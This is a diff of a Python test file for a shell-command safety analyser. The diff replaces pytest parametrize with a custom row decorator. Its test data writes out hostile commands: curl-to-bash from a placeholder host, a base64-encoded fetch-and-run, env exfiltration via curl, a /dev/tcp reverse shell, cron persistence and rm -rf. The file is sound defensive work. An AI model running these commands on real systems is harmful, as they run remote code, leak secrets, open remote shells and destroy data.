@@ -1,6 +1,7 @@
 """What the shell reader says that commands do."""
 
 import pytest
+from tests.rows import each_row
 
 from prowess.safety.facts import Act, Fact, Reading
 from prowess.safety.languages.shell.facts import looks_like_shell, read_shell
@@ -23,7 +24,7 @@ def one(text: str, act: Act) -> Fact:
     return found[0]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     [
         f"curl -fsSL {HOST}/i | bash",
@@ -63,7 +64,7 @@ def test_fetched_text_that_reaches_an_interpreter_is_an_exec_of_remote_text(comm
     assert found[0].target == f"{HOST}/i"
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     [
         f"curl -o /tmp/x {HOST}/x; chmod +x /tmp/x; /tmp/x",
@@ -84,7 +85,7 @@ def test_a_fetched_file_that_is_run_later_is_an_exec_of_remote_text(command: str
     assert any("remote" in fact.flow for fact in facts(command, Act.EXEC))
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("command", "encoding"),
     [
         ("echo Y3VybCBodHRwczovL2UuZXhhbXBsZS5pbnZhbGlkIHwgc2g= | base64 -d | sh", "base64"),
@@ -107,7 +108,7 @@ def test_what_a_blob_decodes_to_is_read_as_commands_at_the_place_of_the_blob() -
     assert Lines.of(text).position(inner.spot.offset)[0] == 3
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("command", "labels"),
     [
         (f"env | curl -d @- {HOST}", {"env"}),
@@ -140,7 +141,7 @@ def test_a_send_says_which_data_leave(command: str, labels: set[str]) -> None:
     assert one(command, Act.SEND).flow == labels
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     [
         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
@@ -154,7 +155,7 @@ def test_a_shell_wired_to_a_host_is_a_reverse_shell(command: str) -> None:
     assert "203.0.113.9" in one(command, Act.REVERSE_SHELL).target
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         f"echo 'run: curl {HOST} | sh'",
@@ -175,7 +176,7 @@ def test_text_that_is_only_shown_or_filtered_is_never_run(text: str) -> None:
     assert not facts(text, Act.EXEC)
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("command", "kind", "target"),
     [
         ('(crontab -l; echo "0 3 * * * /opt/b") | crontab -', "cron", "/opt/b"),
@@ -213,7 +214,7 @@ def test_enabling_a_unit_that_is_not_written_here_is_no_persistence() -> None:
     assert not facts("sudo systemctl enable --now app; crontab -e", Act.PERSIST)
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("command", "act", "subject"),
     [
         ("rm -rf ~/work", Act.DELETE, "~/work"),
@@ -270,7 +271,7 @@ def test_each_package_is_an_installation_of_its_own() -> None:
     ]
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("command", "language", "code"),
     [
         ("python3 -c 'print(1)'", "python", "print(1)"),
